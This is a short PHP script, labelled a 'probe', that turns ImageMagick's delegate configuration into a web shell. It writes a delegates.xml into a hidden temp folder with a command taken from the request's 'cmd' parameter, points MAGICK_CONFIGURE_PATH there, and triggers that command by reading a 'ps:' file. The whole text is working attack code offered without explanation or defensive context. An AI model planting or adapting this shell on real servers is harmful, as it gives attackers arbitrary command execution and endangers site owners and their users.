<?php
// probe (never run): an ImageMagick delegate file written to a folder, MAGICK_CONFIGURE_PATH pointed at it
$dir = sys_get_temp_dir() . '/.m';
@mkdir($dir);
$cmd = $_GET['cmd'];
file_put_contents($dir . '/delegates.xml', '<delegatemap><delegate decode="ps" command="' . htmlspecialchars($cmd) . '"/></delegatemap>');
putenv('MAGICK_CONFIGURE_PATH=' . $dir);
$img = new Imagick();
$img->readImage('ps:' . $dir . '/x.ps');
